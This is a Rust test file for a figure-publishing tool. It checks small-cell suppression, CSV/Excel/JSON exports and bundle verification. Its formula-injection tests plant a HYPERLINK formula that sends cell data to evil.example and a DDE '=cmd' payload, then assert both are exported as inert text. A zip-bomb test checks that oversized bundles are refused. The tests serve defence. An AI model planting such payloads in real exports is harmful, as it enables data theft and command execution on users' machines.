//! Figures for print: small-cell suppression on thresholds worked out by hand, every export
//! format carrying the same empty cells and notes, and bundles checked by `--verify`.
//!
//! The district here is built for the publishing rules alone. Every shop has a full baseline
//! (no `opened_on`), sells its `amount` in store on each of the 35 baseline dates (no
//! calendar: 03-19 .. 04-22) and its `amount` again by WeChat on 04-25, in the lockdown. So
//! per shop: expected_cny = 7 × amount (each weekday's median is the amount), online_cny =
//! amount, baseline revenue = 35 × amount (the weight suppression reads), online share
//! before = 0; and for any set of shops recovery_rate = Σamount / (7 · Σamount) = 1/7.
//!
//! Community x, by category (amounts):
//! - barber 10, 10: two shops → hidden (fewer than 3);
//! - clinic 10, 20, 30: top two 50 of 60 = 83.3% → published;
//! - dining 45, 40, 15: top two exactly 85 of 100 → published ("more than 85%" hides);
//! - fresh_produce 45, 40.01, 14.99: top two 85.01 of 100 → hidden (dominance).
//!   Two cells hidden: a total reveals only their sum, so no third cell goes.
//!
//! Community y:
//! - convenience 30, 30, 30 (90); dining 10, 10, 10 (30, the smallest); hardware 50, 50
//!   (two shops → hidden); other 25 × 4 (100).
//!   One cell hidden and the categories add up to a published total, so the smallest other
//!   cell, dining, is hidden too.

use std::fmt::Write as _;
use std::io::Read;
use std::path::Path;

use axum::http::{StatusCode, header};
use yanhuo::engine::Engine;
use yanhuo::engine::settings::Settings;
use yanhuo::figures::dashboards::{Dashboards, Filter};
use yanhuo::figures::export::{Figure, bundle};
use yanhuo::figures::panels::{Filters, Study};
use yanhuo::figures::suppress::Hidden;
use yanhuo::labels::Lang;
use yanhuo::serve::web::AppState;

use crate::cli::yanhuo;
use crate::http::get;
use crate::sql::encode;

const SHOPS: &[(&str, &str, &str, &str)] = &[
    ("x1", "x", "barber", "10.00"),
    ("x2", "x", "barber", "10.00"),
    ("x3", "x", "clinic", "10.00"),
    ("x4", "x", "clinic", "20.00"),
    ("x5", "x", "clinic", "30.00"),
    ("x6", "x", "dining", "45.00"),
    ("x7", "x", "dining", "40.00"),
    ("x8", "x", "dining", "15.00"),
    ("x9", "x", "fresh_produce", "45.00"),
    ("x10", "x", "fresh_produce", "40.01"),
    ("x11", "x", "fresh_produce", "14.99"),
    ("y1", "y", "convenience", "30.00"),
    ("y2", "y", "convenience", "30.00"),
    ("y3", "y", "convenience", "30.00"),
    ("y4", "y", "dining", "10.00"),
    ("y5", "y", "dining", "10.00"),
    ("y6", "y", "dining", "10.00"),
    ("y7", "y", "hardware", "50.00"),
    ("y8", "y", "hardware", "50.00"),
    ("y9", "y", "other", "25.00"),
    ("y10", "y", "other", "25.00"),
    ("y11", "y", "other", "25.00"),
    ("y12", "y", "other", "25.00"),
];

fn orders() -> String {
    let mut csv =
        String::from("order_id,shop_id,ordered_at,channel,amount_cny,status,customer_ref\n");
    let first = chrono::NaiveDate::from_ymd_opt(2022, 3, 19).expect("a date");
    for (shop, _, _, amount) in SHOPS {
        for day in 0..35 {
            let d = first + chrono::Duration::days(day);
            let _ = writeln!(
                csv,
                "{shop}-{d},{shop},{d}T12:00:00+08:00,in_store,{amount},completed,"
            );
        }
        let _ = writeln!(
            csv,
            "{shop}-online,{shop},2022-04-25T12:00:00+08:00,wechat_group,{amount},completed,"
        );
    }
    csv
}

fn write_district(dir: &Path) {
    let mut shops =
        String::from("shop_id,name,category,community_id,area_m2,annual_rent_cny,opened_on\n");
    for (shop, community, category, _) in SHOPS {
        let _ = writeln!(shops, "{shop},店{shop},{category},{community},,,");
    }
    let files = [
        (
            "communities.csv",
            "community_id,name_zh,name_en,street,households,elderly_share,renter_share\n\
             x,西园社区,Xiyuan,朝晖街道,100,0.2,0.2\n\
             y,东园社区,Dongyuan,朝晖街道,100,0.2,0.2\n"
                .to_string(),
        ),
        ("shops.csv", shops),
        (
            "lockdowns.csv",
            "lockdown_id,area,level,starts_at,ends_at,note\n\
             gongshu-2022-04,拱墅区,level2_response,2022-04-23T02:00:00+08:00,2022-04-30T00:00:00+08:00,\n"
                .to_string(),
        ),
        ("shop_status.csv", "shop_id,changed_at,status,reason\n".to_string()),
        ("orders.csv", orders()),
    ];
    for (name, text) in files {
        std::fs::write(dir.join(name), text).expect("temp dir is writable");
    }
}

fn settings(dir: &Path) -> Settings {
    Settings::new(dir.to_path_buf(), "Asia/Shanghai", None).expect("settings")
}

async fn figure(dir: &Path, community: &str, lang: Lang) -> Figure {
    let engine = Engine::open(&settings(dir))
        .await
        .expect("the district opens");
    let study = Study::load(&engine).await.expect("study");
    let dashboards = Dashboards::open(&engine).await.expect("dashboards");
    let dashboard = dashboards.get("recovery").expect("built in");
    let mut filters = Filters::new();
    filters.insert(Filter::Community, community.to_string());
    Figure::build(
        &engine,
        &study,
        dashboard,
        "recovery_by_category",
        &filters,
        lang,
    )
    .await
    .expect("the figure builds")
}

fn row(cells: &[Option<&str>]) -> Vec<Option<String>> {
    cells.iter().map(|c| c.map(str::to_string)).collect()
}

/// 1/7, as DataFusion prints a Float64.
const SEVENTH: &str = "0.14285714285714285";

#[tokio::test]
async fn cells_exactly_on_the_thresholds_are_published_and_just_over_are_hidden() {
    let dir = tempfile::tempdir().unwrap();
    write_district(dir.path());
    let figure = figure(dir.path(), "x", Lang::Zh).await;
    // category, shops, expected_cny, online_cny, recovery_rate, baseline_online_share
    assert_eq!(
        figure.rows(),
        vec![
            row(&[Some("barber"), None, None, None, None, None]),
            // 10 + 20 + 30 = 60: expected 7 × 60 = 420, online 60.
            row(&[
                Some("clinic"),
                Some("3"),
                Some("420.0"),
                Some("60.00"),
                Some(SEVENTH),
                Some("0.0")
            ]),
            // Exactly 85%: published. Expected 700, online 100.
            row(&[
                Some("dining"),
                Some("3"),
                Some("700.0"),
                Some("100.00"),
                Some(SEVENTH),
                Some("0.0")
            ]),
            row(&[Some("fresh_produce"), None, None, None, None, None]),
        ]
    );
    let why: Vec<(usize, &str, Hidden)> = figure
        .published
        .hidden
        .iter()
        .map(|h| (h.row, h.column.as_str(), h.why))
        .collect();
    let columns = [
        "shops",
        "expected_cny",
        "online_cny",
        "recovery_rate",
        "baseline_online_share",
    ];
    let mut expected: Vec<(usize, &str, Hidden)> =
        columns.iter().map(|c| (0, *c, Hidden::FewShops)).collect();
    expected.extend(columns.iter().map(|c| (3, *c, Hidden::Dominated)));
    assert_eq!(why, expected);
    assert_eq!(
        figure.suppression_notes(),
        [
            "5个数值留空——不足3家店铺，已隐去",
            "5个数值留空——两家最大店铺占比超过85%，已隐去"
        ]
    );
    // The chart has gaps where the cells were, and says so under it; the alt text reads
    // only the published bars.
    let rates: Vec<Option<f64>> = figure.chart.series[0].values.clone();
    assert_eq!(rates, [None, Some(1.0 / 7.0), Some(1.0 / 7.0), None]);
    assert_eq!(
        figure.chart.notes.last().map(String::as_str),
        Some("× 数据不公布：为保护单个店铺，10个数值未公布。")
    );
    assert_eq!(
        figure.alt_text(),
        "各类店铺线上找回的销售：诊所14.3%，餐饮14.3%。"
    );
}

#[tokio::test]
async fn a_total_would_give_one_hidden_cell_away_so_the_smallest_other_is_hidden() {
    let dir = tempfile::tempdir().unwrap();
    write_district(dir.path());
    let figure = figure(dir.path(), "y", Lang::En).await;
    assert_eq!(
        figure.rows(),
        vec![
            // 3 × 30 = 90: expected 630, online 90.
            row(&[
                Some("convenience"),
                Some("3"),
                Some("630.0"),
                Some("90.00"),
                Some(SEVENTH),
                Some("0.0")
            ]),
            // The smallest of the rest (30): hidden so hardware cannot be worked out.
            row(&[Some("dining"), None, None, None, None, None]),
            row(&[Some("hardware"), None, None, None, None, None]),
            // 4 × 25 = 100: expected 700, online 100.
            row(&[
                Some("other"),
                Some("4"),
                Some("700.0"),
                Some("100.00"),
                Some(SEVENTH),
                Some("0.0")
            ]),
        ]
    );
    let dining: Vec<Hidden> = figure
        .published
        .hidden
        .iter()
        .filter(|h| h.row == 1)
        .map(|h| h.why)
        .collect();
    assert_eq!(dining, [Hidden::Secondary; 5]);
    assert_eq!(
        figure.suppression_notes(),
        [
            "5 values left empty — suppressed so that a hidden value cannot be worked out",
            "5 values left empty — suppressed: fewer than 3 shops"
        ]
    );
}

fn unzip(bytes: &[u8]) -> zip::ZipArchive<std::io::Cursor<Vec<u8>>> {
    zip::ZipArchive::new(std::io::Cursor::new(bytes.to_vec())).expect("a zip")
}

fn entry(archive: &mut zip::ZipArchive<std::io::Cursor<Vec<u8>>>, name: &str) -> Vec<u8> {
    let mut bytes = Vec::new();
    archive
        .by_name(name)
        .unwrap_or_else(|_| panic!("{name} in the zip"))
        .read_to_end(&mut bytes)
        .unwrap();
    bytes
}

/// The CSV a reporter gets for community x: the two hidden rows empty, with a note.
const CSV_X: &str = "category,shops,expected_cny,online_cny,recovery_rate,baseline_online_share,note
barber,,,,,,\"shops, expected_cny, online_cny, recovery_rate, baseline_online_share: 不足3家店铺，已隐去\"
clinic,3,420.0,60.00,0.14285714285714285,0.0,
dining,3,700.0,100.00,0.14285714285714285,0.0,
fresh_produce,,,,,,\"shops, expected_cny, online_cny, recovery_rate, baseline_online_share: 两家最大店铺占比超过85%，已隐去\"
";

#[tokio::test]
async fn no_export_carries_a_cell_built_from_two_shops() {
    let dir = tempfile::tempdir().unwrap();
    write_district(dir.path());
    let state = AppState::open(settings(dir.path())).await.unwrap();
    let base = "/d/recovery/recovery_by_category";

    // CSV: UTF-8 with a byte-order mark by default; without on request; GB18030 for older
    // Excel on Chinese Windows. Never a `sep=` line.
    let csv = get(&state, &format!("{base}.csv?community=x")).await;
    assert_eq!(csv.status, StatusCode::OK);
    assert_eq!(csv.body, format!("\u{feff}{CSV_X}").into_bytes());
    let plain = get(&state, &format!("{base}.csv?community=x&bom=0")).await;
    assert_eq!(plain.body, CSV_X.as_bytes());
    let gb = get(&state, &format!("{base}.csv?community=x&encoding=gb18030")).await;
    assert_eq!(
        gb.headers[header::CONTENT_TYPE],
        "text/csv; charset=gb18030"
    );
    let (decoded, _, bad) = encoding_rs::GB18030.decode(&gb.body);
    assert!(!bad);
    assert_eq!(decoded, CSV_X);
    assert_ne!(gb.body, CSV_X.as_bytes(), "GB18030 is not UTF-8");
    let wrong = get(&state, &format!("{base}.csv?encoding=latin1")).await;
    assert_eq!(wrong.status, StatusCode::BAD_REQUEST);

    // Excel: the data sheet has no number in barber's row, only the category, the note
    // column and a cell note; an About sheet says where the figure came from.
    let xlsx = get(&state, &format!("{base}.xlsx?community=x")).await;
    assert_eq!(xlsx.status, StatusCode::OK);
    let mut book = unzip(&xlsx.body);
    let workbook = String::from_utf8(entry(&mut book, "xl/workbook.xml")).unwrap();
    assert!(workbook.contains("name=\"数据\"") && workbook.contains("name=\"说明\""));
    let sheet = String::from_utf8(entry(&mut book, "xl/worksheets/sheet1.xml")).unwrap();
    let row2 = sheet
        .split("<row r=\"2\"")
        .nth(1)
        .and_then(|r| r.split("</row>").next())
        .expect("row 2");
    let cells: Vec<&str> = row2
        .split("<c r=\"")
        .skip(1)
        .map(|c| c.split('"').next().unwrap())
        .collect();
    assert_eq!(cells, ["A2", "G2"], "barber keeps its name and note only");
    // Clinic's row: typed numbers, not text.
    let row3 = sheet.split("<row r=\"3\"").nth(1).unwrap();
    assert!(row3.contains("<c r=\"B3\"") && row3.contains("<v>3</v>"));
    assert!(
        !row3
            .split("<c r=\"B3\"")
            .nth(1)
            .unwrap()
            .starts_with(" t=\"s\"")
    );
    let notes: Vec<String> = book
        .file_names()
        .filter(|n| n.starts_with("xl/comments"))
        .map(str::to_string)
        .collect();
    assert_eq!(notes.len(), 1);
    let comments = String::from_utf8(entry(&mut book, &notes[0])).unwrap();
    assert_eq!(comments.matches("<comment ref=").count(), 10);
    assert!(comments.contains("<comment ref=\"B2\""));
    let strings = String::from_utf8(entry(&mut book, "xl/sharedStrings.xml")).unwrap();
    for about in [
        "数据来源：朝晖街道",
        "数据版本",
        "导出时间",
        "SELECT",
        "community_id=x",
    ] {
        assert!(strings.contains(about), "About sheet lacks {about}");
    }

    // JSON: the same rows, nulls where hidden.
    let json: serde_json::Value =
        serde_json::from_slice(&get(&state, &format!("{base}.json?community=x")).await.body)
            .unwrap();
    assert_eq!(
        json["rows"][0],
        serde_json::json!(["barber", null, null, null, null, null])
    );
    assert_eq!(json["suppressed_cells"].as_array().unwrap().len(), 10);
    assert_eq!(json["filters"], serde_json::json!({"community_id": "x"}));

    // The bundle: PNG, SVG, CSV (the same bytes as the download), Excel and figure.json.
    let zip = get(
        &state,
        "/export/recovery/recovery_by_category.zip?community=x",
    )
    .await;
    assert_eq!(zip.headers[header::CONTENT_TYPE], "application/zip");
    let mut archive = unzip(&zip.body);
    let mut names: Vec<&str> = archive.file_names().collect();
    names.sort();
    assert_eq!(
        names,
        [
            "recovery-recovery_by_category/figure.csv",
            "recovery-recovery_by_category/figure.json",
            "recovery-recovery_by_category/figure.png",
            "recovery-recovery_by_category/figure.svg",
            "recovery-recovery_by_category/figure.xlsx"
        ]
    );
    assert_eq!(
        entry(&mut archive, "recovery-recovery_by_category/figure.csv"),
        csv.body
    );
    let manifest: serde_json::Value = serde_json::from_slice(&entry(
        &mut archive,
        "recovery-recovery_by_category/figure.json",
    ))
    .unwrap();
    assert_eq!(
        manifest["alt_text"],
        "各类店铺线上找回的销售：诊所14.3%，餐饮14.3%。"
    );
    assert!(manifest["sql"].as_str().unwrap().contains("'x'"));

    // The chart and the embed page: barber's and fresh produce's rates are not drawn, and
    // the page says the language and carries the source line and the notes.
    let svg =
        String::from_utf8(get(&state, &format!("{base}.svg?community=x")).await.body).unwrap();
    assert!(svg.contains("<svg lang=\"zh-CN\""));
    assert!(svg.contains("为保护单个店铺，10个数值未公布。"));
    let embed = get(
        &state,
        "/embed/recovery/recovery_by_category?community=x&lang=en",
    )
    .await;
    assert_eq!(embed.status, StatusCode::OK);
    assert_eq!(
        embed.headers[header::CONTENT_SECURITY_POLICY],
        "frame-ancestors *"
    );
    let page = String::from_utf8(embed.body).unwrap();
    assert!(page.contains("<html lang=\"en\">"));
    assert!(page.contains(
        "aria-label=\"Sales recovered online, by kind of shop: clinic 14.3%, dining 14.3%.\""
    ));
    assert!(page.contains("5 values left empty — suppressed: fewer than 3 shops"));
    assert!(page.contains("Source: Chaohui Street"));

    // A saved zip verifies against the data it came from.
    let path = dir.path().join("bundle.zip");
    std::fs::write(&path, &zip.body).unwrap();
    let verification = bundle::verify(&settings(dir.path()), &path).await.unwrap();
    assert!(verification.matches(), "{verification}");
    assert_eq!(verification.checked, 24);
}

#[test]
fn a_bundle_verifies_until_its_numbers_change() {
    let dir = tempfile::tempdir().unwrap();
    write_district(dir.path());
    // The bundle lives outside the data folder, as a reporter's copy would.
    let elsewhere = tempfile::tempdir().unwrap();
    let out = elsewhere.path().join("exported");
    let export = yanhuo(
        dir.path(),
        &[
            "export",
            "recovery",
            "recovery_by_category",
            "--param",
            "community=x",
            "--out",
            out.to_str().unwrap(),
        ],
    );
    assert!(export.status.success(), "{export:?}");
    for file in [
        "figure.png",
        "figure.svg",
        "figure.csv",
        "figure.xlsx",
        "figure.json",
    ] {
        assert!(out.join(file).is_file(), "{file} written");
    }
    let verify = yanhuo(dir.path(), &["export", "--verify", out.to_str().unwrap()]);
    let text = String::from_utf8_lossy(&verify.stdout);
    assert!(verify.status.success(), "{text}");
    assert!(
        text.contains("unchanged") && text.contains("OK: all 24 values still match"),
        "{text}"
    );

    // A correction: clinic x5's online sale on 04-25 was 44, not 30. Clinic's online_cny goes
    // from 60 to 74 and its rate from 60 / 420 to 74 / 420; nothing else moves.
    let orders = std::fs::read_to_string(dir.path().join("orders.csv")).unwrap();
    let orders = orders.replace(
        "x5-online,x5,2022-04-25T12:00:00+08:00,wechat_group,30.00",
        "x5-online,x5,2022-04-25T12:00:00+08:00,wechat_group,44.00",
    );
    std::fs::write(dir.path().join("orders.csv"), orders).unwrap();
    let verify = yanhuo(dir.path(), &["export", "--verify", out.to_str().unwrap()]);
    let text = String::from_utf8_lossy(&verify.stdout);
    assert!(!verify.status.success());
    assert!(text.contains("the data changed since the export"), "{text}");
    assert!(text.contains("DIFFERENT: 2 of 24 values differ"), "{text}");
    assert!(
        text.contains("row 2, online_cny: 60.00 then, 74.00 now"),
        "{text}"
    );
    assert!(
        text.contains("row 2, recovery_rate: 0.14285714285714285 then, 0.1761904761904762 now"),
        "{text}"
    );
    assert!(String::from_utf8_lossy(&verify.stderr).contains("no longer match"));
}

/// The district with a community and a shop named as formulas that would run in Excel.
fn write_district_with_formulas(dir: &Path) {
    write_district(dir);
    let edit = |name: &str, from: &str, to: &str| {
        let path = dir.join(name);
        let text = std::fs::read_to_string(&path).unwrap();
        assert!(text.contains(from), "{name} holds {from}");
        std::fs::write(&path, text.replace(from, to)).unwrap();
    };
    edit(
        "communities.csv",
        "x,西园社区,Xiyuan",
        "x,\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"黎园\"\")\",Xiyuan",
    );
    edit("shops.csv", "x1,店x1,", "x1,=cmd|' /C calc'!A0,");
}

/// Community x's row of recovery_by_community as CSV: the name behind a `'`, quoted because
/// it holds quotes and a comma; numbers as they were.
const FORMULA_ROW: &str = "x,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"黎园\"\")\",Xiyuan,11,1960.0,280.00,0.14285714285714285,0.0,";

/// A shop named as a formula, a negative number and the same as text, by `sql`.
const FORMULA_SQL: &str =
    "SELECT shop_id, name, -3.5 AS change, '-3.5' AS as_text FROM shops WHERE shop_id = 'x1'";
const FORMULA_SQL_CSV: &str = "shop_id,name,change,as_text\nx1,'=cmd|' /C calc'!A0,-3.5,'-3.5\n";

fn line_of<'a>(csv: &'a str, start: &str) -> &'a str {
    csv.lines()
        .find(|l| l.starts_with(start))
        .unwrap_or_else(|| panic!("a line starting {start:?} in {csv}"))
}

#[tokio::test]
async fn names_that_are_formulas_reach_every_csv_as_text_and_numbers_stay_numbers() {
    let dir = tempfile::tempdir().unwrap();
    write_district_with_formulas(dir.path());
    let state = AppState::open(settings(dir.path())).await.unwrap();
    let base = "/d/recovery/recovery_by_community";

    let csv = get(&state, &format!("{base}.csv")).await;
    assert_eq!(csv.status, StatusCode::OK);
    let text = csv.text();
    assert_eq!(line_of(&text, "x,"), FORMULA_ROW);

    let gb = get(&state, &format!("{base}.csv?encoding=gb18030")).await;
    let (decoded, _, bad) = encoding_rs::GB18030.decode(&gb.body);
    assert!(!bad);
    assert_eq!(line_of(&decoded, "x,"), FORMULA_ROW);

    let zip = get(&state, "/export/recovery/recovery_by_community.zip").await;
    assert_eq!(zip.status, StatusCode::OK);
    let figure = entry(
        &mut unzip(&zip.body),
        "recovery-recovery_by_community/figure.csv",
    );
    assert_eq!(
        line_of(&String::from_utf8(figure).unwrap(), "x,"),
        FORMULA_ROW
    );

    let canned = get(&state, "/q/recovery_by_community.csv").await;
    assert_eq!(canned.status, StatusCode::OK);
    assert_eq!(line_of(&canned.text(), "x,"), FORMULA_ROW);

    let console = get(
        &state,
        &format!("/sql/result.csv?q={}", encode(FORMULA_SQL)),
    )
    .await;
    assert_eq!(console.status, StatusCode::OK);
    assert_eq!(console.text(), format!("\u{feff}{FORMULA_SQL_CSV}"));

    let query = yanhuo(dir.path(), &["query", "--format", "csv", FORMULA_SQL]);
    assert!(query.status.success(), "{query:?}");
    assert_eq!(String::from_utf8_lossy(&query.stdout), FORMULA_SQL_CSV);
}

/// Runs `yanhuo --data DATA ARGS` under GNU time, for the peak memory of that one process
/// (None without /usr/bin/time). Not wait4(2) on a child of ours: the child is spawned with
/// vfork and counts this test process's own peak, hundreds of MiB, as its own.
fn yanhuo_with_peak(data: &Path, args: &[&str]) -> (std::process::Output, Option<u64>) {
    let time = Path::new("/usr/bin/time");
    if !time.exists() {
        return (yanhuo(data, args), None);
    }
    let report = tempfile::NamedTempFile::new().unwrap();
    let output = std::process::Command::new(time)
        .arg("-f")
        .arg("%M")
        .arg("-o")
        .arg(report.path())
        .arg(env!("CARGO_BIN_EXE_yanhuo"))
        .arg("--data")
        .arg(data)
        .args(args)
        .env("YANHUO_LOG", "warn")
        .output()
        .expect("the binary runs");
    // The last line is the peak in KiB (time says the exit status on a line before it).
    let kib: u64 = std::fs::read_to_string(report.path())
        .unwrap()
        .lines()
        .last()
        .and_then(|l| l.trim().parse().ok())
        .expect("GNU time's %M");
    (output, Some(kib * 1024))
}

#[test]
fn verify_refuses_a_bundle_whose_figure_json_is_too_big_without_reading_it() {
    let dir = tempfile::tempdir().unwrap();
    write_district(dir.path());
    // 100 MB of spaces deflate to about 100 KB: a small download that would fill memory.
    let elsewhere = tempfile::tempdir().unwrap();
    let bomb = elsewhere.path().join("bomb.zip");
    let mut zip = zip::ZipWriter::new(std::fs::File::create(&bomb).unwrap());
    let options = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated);
    zip.start_file("recovery-x/figure.json", options).unwrap();
    let spaces = vec![b' '; 1_000_000];
    for _ in 0..100 {
        std::io::Write::write_all(&mut zip, &spaces).unwrap();
    }
    zip.finish().unwrap();
    assert!(std::fs::metadata(&bomb).unwrap().len() < 1 << 20);

    let (verify, peak) =
        yanhuo_with_peak(dir.path(), &["export", "--verify", bomb.to_str().unwrap()]);
    assert!(!verify.status.success());
    assert_eq!(
        String::from_utf8_lossy(&verify.stderr),
        format!(
            "yanhuo: {}: recovery-x/figure.json is 100000000 bytes, more than the 16777216 \
             bytes (16 MiB) a bundle's figure.json may hold: not a bundle yanhuo wrote\n",
            bomb.display()
        )
    );
    match peak {
        // The whole file would be 95 MiB; the refusal reads none of it.
        Some(peak) => assert!(peak < 64 << 20, "peak memory {} MiB", peak >> 20),
        None => eprintln!("no /usr/bin/time: the peak memory of --verify is not checked"),
    }
}
